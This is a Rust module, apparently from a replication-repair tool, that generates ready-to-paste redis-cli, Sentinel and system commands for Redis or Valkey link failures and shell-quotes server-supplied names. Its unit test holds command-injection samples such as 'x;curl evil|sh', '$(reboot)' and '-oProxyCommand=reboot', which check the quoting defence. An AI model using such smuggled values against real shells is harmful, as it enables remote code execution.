//! What a person would run now: commands that really work, for the cause at hand. No secret stands in them.

use super::{Context, living};
use crate::diagnose::{advised_backlog, advised_limit, more_than_now};
use crate::model::evidence::{Evidence, Flavour, Role};
use crate::model::finding::Cause;
use crate::model::remedy::{Decision, RefusalCode};
use crate::model::{Address, Endpoint};

/// Commands, most useful first.
pub fn next_steps(context: &Context<'_>, decision: &Decision) -> Vec<String> {
    let e = context.evidence;
    let cli = match e.local.seen().map(|view| view.flavour) {
        Some(Flavour::Valkey) => "valkey-cli",
        _ => "redis-cli",
    };
    let at = |endpoint: &Endpoint| format!("{cli} -h {} -p {}", quoted(&endpoint.host), endpoint.port);
    let local = match &e.address {
        Address::Tcp(endpoint) => at(endpoint),
        Address::Unix(path) => format!("{cli} -s {}", quoted(&path.to_string_lossy())),
    };
    let primary = e.local_link().map(|link| link.primary.clone());
    let remote = primary.as_ref().map_or_else(|| format!("{cli} -h PRIMARY"), at);
    let sentinel = e.sentinels.first().map_or_else(|| format!("{cli} -p 26379"), |s| at(&s.endpoint));
    let group = if e.link.group.is_empty() { "MASTER".to_owned() } else { quoted(&e.link.group) };
    let mut steps = by_cause(context, &local, &remote, &sentinel, &group);
    if living::qualifies(context.finding.cause) && !e.sentinels.is_empty() {
        steps.push(format!("{sentinel} SENTINEL REPLICAS {group}   # master-link-status: have the others a link?"));
    }
    if let Decision::Hold(refusal) = decision
        && refusal.code == RefusalCode::AttemptsExhausted
    {
        steps.insert(0, format!("relinkd show {}   # what was tried, and what came of it", operand(&e.link.replica)));
    }
    steps.push(format!("relinkd explain {}", context.finding.cause));
    steps
}

fn by_cause(c: &Context<'_>, local: &str, remote: &str, sentinel: &str, group: &str) -> Vec<String> {
    let e = c.evidence;
    let server = program(e);
    let user = e.settings.seen().map(|s| s.masteruser.clone()).filter(|user| !user.is_empty());
    let target = e.local_link().map(|link| link.primary.clone());
    match c.finding.cause {
        Cause::AuthMissing | Cause::AuthRejected | Cause::AuthLatent => vec![
            format!(
                "{remote}{} --askpass PING   # the password that the primary should take",
                user_flag(user.as_deref())
            ),
            "put that password into the secret store that [group] masterauth names; relinkd takes it from there"
                .to_owned(),
            format!(
                "printf %s \"$(cat PWFILE)\" | {local} -x CONFIG SET masterauth   # by hand: the link is up within a second"
            ),
        ],
        Cause::AuthUnexpected => vec![
            format!("{remote} ACL LIST   # has the primary lost its password?"),
            format!("{local} CONFIG SET masterauth ''   # only if it should have none"),
        ],
        Cause::AuthForbidden => vec![format!(
            "{remote} ACL SETUSER {} +psync +replconf +ping   # on the primary, and on every node that may become one",
            user.as_deref().map_or("USER".to_owned(), quoted)
        )],
        Cause::PrimaryDown | Cause::PrimaryHung | Cause::PrimaryUnreachable => vec![
            format!("{sentinel} SENTINEL CKQUORUM {group}"),
            format!("{sentinel} SENTINEL REPLICAS {group}   # is there one to promote?"),
            target.map_or_else(
                || format!("systemctl status {server}"),
                |p| format!("ssh {} systemctl status {server}", operand(&p.host)),
            ),
        ],
        Cause::NetworkCut | Cause::NetworkRejected => target.map_or_else(Vec::new, |p| {
            vec![
                format!("nc -vz {} {}   # from this host; then the same from another", operand(&p.host), p.port),
                "nft list ruleset   # on both hosts".to_owned(),
            ]
        }),
        Cause::NameUnresolved => {
            let name = target.or_else(|| e.lookup.as_ref().map(|lookup| lookup.name.clone()));
            name.map_or_else(Vec::new, |p| vec![format!("getent hosts {}", operand(&p.host))])
        }
        Cause::WrongPrimary | Cause::SelfReplication | Cause::NotAServer | Cause::UpstreamBroken => {
            let named = e.named_primary().map(|(named, _)| named.clone());
            let mut steps = vec![format!("{sentinel} SENTINEL GET-MASTER-ADDR-BY-NAME {group}")];
            if e.local.seen().is_some_and(|view| view.role == Role::Primary) {
                steps.push(format!("{local} CONFIG SET min-replicas-to-write 1   # it takes no more writes"));
                steps.push(format!("{local} --rdb only-here.rdb   # a copy of what only this server has"));
            }
            if let Some(named) = named {
                steps.push(format!("{local} REPLICAOF {} {}", quoted(&named.host), named.port));
            }
            steps
        }
        Cause::QuorumLost
        | Cause::NoPromotableReplica
        | Cause::PrimaryEmptied
        | Cause::SentinelAuthRejected
        | Cause::TlsMismatch
        | Cause::TlsCertificate
        | Cause::CommandMissing
        | Cause::ReplconfRefused => about_the_group(c, local, remote, sentinel, group),
        _ => about_the_servers(c, local, remote),
    }
}

/// What the nodes and Sentinels of the group have to agree on.
fn about_the_group(c: &Context<'_>, local: &str, remote: &str, sentinel: &str, group: &str) -> Vec<String> {
    let e = c.evidence;
    let user = e.settings.seen().map(|s| s.masteruser.clone()).filter(|user| !user.is_empty());
    let target = e.local_link().map(|link| link.primary.clone());
    match c.finding.cause {
        Cause::QuorumLost => vec![
            "start the Sentinels that are down; one more that answers is often enough".to_owned(),
            format!("{sentinel} SENTINEL CKQUORUM {group}"),
            format!(
                "{sentinel} SENTINEL SENTINELS {group}   # never SENTINEL RESET: it forgets the replicas that are down"
            ),
        ],
        Cause::NoPromotableReplica => vec![
            format!("{sentinel} SENTINEL REPLICAS {group}   # slave-priority, flags, master-link-down-time"),
            format!("{local} CONFIG SET replica-priority 100   # on a replica that may be promoted"),
        ],
        Cause::PrimaryEmptied => vec![
            "keep every dump.rdb and appendonly file of the group where nothing overwrites it, first of all".to_owned(),
            format!("{remote} INFO keyspace"),
            format!("{local} INFO keyspace"),
        ],
        Cause::SentinelAuthRejected => vec![
            format!(
                "printf %s \"$(cat PWFILE)\" | {sentinel} -x SENTINEL SET {group} auth-pass   # on every Sentinel, once all data nodes take it"
            ),
            format!("{remote} ACL LOG   # which login the Sentinels try"),
        ],
        Cause::TlsMismatch => vec![
            format!("{local} CONFIG GET tls-replication"),
            format!("{remote} --tls PING   # does that port speak TLS?"),
        ],
        Cause::TlsCertificate => target.map_or_else(Vec::new, |p| {
            vec![
                format!(
                    "openssl s_client -connect {}:{} </dev/null | openssl x509 -noout -dates -issuer -subject",
                    quoted(&p.host),
                    p.port
                ),
                format!(
                    "{local} CONFIG GET 'tls-*cert-file'   # what this replica shows: openssl x509 -noout -dates -in FILE"
                ),
            ]
        }),
        Cause::CommandMissing => vec![format!(
            "{remote} COMMAND INFO psync sync replconf   # then take rename-command out of the primary's config"
        )],
        Cause::ReplconfRefused => vec![format!(
            "{remote} ACL SETUSER {} +replconf +psync +ping   # on the primary, and on every node that may become one",
            user.as_deref().map_or("USER".to_owned(), quoted)
        )],
        _ => Vec::new(),
    }
}

/// The servers themselves: what they lack, and what their limits should be.
fn about_the_servers(c: &Context<'_>, local: &str, remote: &str) -> Vec<String> {
    let e = c.evidence;
    let server = program(e);
    let cause = c.finding.cause;
    match cause {
        Cause::PrimaryDiskFull => vec![
            format!(
                "{remote} CONFIG GET logfile   # `Write error saving DB`: its disk; `terminated by signal`: its host's memory (dmesg)"
            ),
            format!("{remote} CONFIG GET dir   # then df -h there, and make room"),
            format!("{remote} CONFIG SET repl-diskless-sync yes   # the sync then needs no disk on the primary"),
        ],
        Cause::ReplicaDiskFull => vec![
            format!("df -h {}", e.settings.seen().map_or("DIR".to_owned(), |s| operand(&s.dir))),
            format!(
                "{local} CONFIG SET repl-diskless-load swapdb   # the sync then needs memory for two copies, and no disk"
            ),
        ],
        Cause::OutputBufferExceeded | Cause::BacklogTooSmall => vec![larger_limit(e, cause, remote)],
        _ if c.finding.flaps.is_some() => vec![
            format!(
                "{remote} CONFIG GET logfile   # what it says at those times: a client closed, a replica timed out, nothing"
            ),
            "nstat -az TcpEstabResets TcpExtTCPAbortOnTimeout   # on both hosts: is it the network?".to_owned(),
            format!("{remote} CLIENT LIST TYPE replica   # omem, and age: how long the connection has stood"),
        ],
        Cause::SyncTimeout => vec![
            format!("{remote} CONFIG GET repl-ping-replica-period"),
            format!(
                "{local} CONFIG SET repl-timeout 120   # on every node; it has to exceed the ping period and the longest pause"
            ),
        ],
        Cause::ProtectedMode => vec![format!(
            "printf %s \"$(cat PWFILE)\" | {remote} -x CONFIG SET requirepass   # on the primary's own host; then masterauth here"
        )],
        Cause::ConnectionsExhausted => {
            vec![format!("{remote} CONFIG SET maxclients 20000   # on the primary's own host, if a connection is left")]
        }
        Cause::PrimaryBusy => vec![format!("{remote} SCRIPT KILL   # works while the script has not written")],
        Cause::PrimarySaveFailing => {
            vec![format!("{remote} INFO persistence   # then make room on the primary, and BGSAVE")]
        }
        Cause::PrimaryForkFailed => {
            vec![format!("{remote} INFO memory   # and vm.overcommit_memory, limits and free memory on its host")]
        }
        Cause::RdbIncompatible => {
            vec!["upgrade this replica to the primary's version or newer before it links again".to_owned()]
        }
        Cause::SyncStalled => vec![format!("{local} INFO replication   # master_sync_last_io_seconds_ago")],
        Cause::ReplicaSaveFailing => vec![
            format!("df -h {}", e.settings.seen().map_or("DIR".to_owned(), |s| operand(&s.dir))),
            format!("{local} BGSAVE   # once there is room; then INFO persistence"),
        ],
        Cause::ReplicaDown => {
            vec![format!("systemctl status {server}"), format!("journalctl -u {server} -n 50")]
        }
        Cause::ReplicaHung => vec![format!("timeout 15 {local} PING"), format!("top -H -p $(pidof {server})")],
        Cause::ReplicaDenied => vec![format!(
            "printf '>%s' \"$(cat PWFILE)\" | {local} -x ACL SETUSER relinkd on resetkeys resetchannels -@all +ping +info +role '+config|get' '+client|setname'"
        )],
        _ => vec![format!("{local} INFO replication"), format!("{local} ROLE")],
    }
}

/// The server's program, which Debian's unit is named after.
fn program(e: &Evidence) -> &'static str {
    match e.local.seen().map(|view| view.flavour) {
        Some(Flavour::Valkey) => "valkey-server",
        _ => "redis-server",
    }
}

fn user_flag(user: Option<&str>) -> String {
    user.map(|user| format!(" --user {}", quoted(user))).unwrap_or_default()
}

/// The limit on the primary that is too small, with a figure for it where one was measured.
fn larger_limit(e: &Evidence, cause: Cause, remote: &str) -> String {
    if cause == Cause::BacklogTooSmall {
        let (mib, why) = match advised_backlog(e) {
            Some(bytes) => (bytes >> 20, "for a minute of the writes measured here"),
            None => (256, "write rate times the longest outage"),
        };
        return format!("{remote} CONFIG SET repl-backlog-size {}   # {why}; on every node", in_config(mib));
    }
    let (hard, why) = match advised_limit(e) {
        Some(bytes) => (bytes >> 20, "four times what was waiting when it was cut, and more than now"),
        None => ((more_than_now(e) >> 20).max(1024), "sized to the data set"),
    };
    let limits = e.primary_limits.seen();
    // A limit that is not there stays away.
    let raised = |present: Option<u64>, mib: u64| if present == Some(0) { "0".to_owned() } else { in_config(mib) };
    let hard_limit = raised(limits.map(|limits| limits.output_hard), hard);
    let soft_limit = raised(limits.map(|limits| limits.output_soft), hard / 2);
    let soft_s = limits.map_or(60, |limits| limits.output_soft_s.max(60));
    format!(
        "{remote} CONFIG SET client-output-buffer-limit 'replica {hard_limit} {soft_limit} {soft_s}'   # on the primary, {why}"
    )
}

/// Mebibytes as the servers' config has them.
fn in_config(mib: u64) -> String {
    if mib > 0 && mib.is_multiple_of(1024) { format!("{}gb", mib / 1024) } else { format!("{mib}mb") }
}

/// One word of a shell's command. Names of hosts, users and directories are what servers say they are.
fn quoted(text: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "._:/@%+=-".contains(c);
    if !text.is_empty() && text.chars().all(plain) {
        return text.to_owned();
    }
    let tame: String = text.chars().map(|c| if c.is_control() { '?' } else { c }).collect();
    format!("'{}'", tame.replace('\'', "'\\''"))
}

/// The same where a program would take a word that begins with `-` for an option.
fn operand(text: &str) -> String {
    if text.starts_with('-') { format!("-- {}", quoted(text)) } else { quoted(text) }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_server_says_is_one_word_of_the_command_that_a_person_pastes() {
        for (text, word) in [
            ("10.0.0.1", "10.0.0.1"),
            ("fe80::1%eth0", "fe80::1%eth0"),
            ("/var/lib/redis", "/var/lib/redis"),
            ("x;curl evil|sh", "'x;curl evil|sh'"),
            ("$(reboot)", "'$(reboot)'"),
            ("it's", "'it'\\''s'"),
            ("a\nb\u{1b}[2J", "'a?b?[2J'"),
            ("", "''"),
        ] {
            assert_eq!((quoted(text), operand(text)), (word.to_owned(), word.to_owned()));
        }
        assert_eq!(operand("-oProxyCommand=reboot"), "-- -oProxyCommand=reboot");
    }
}
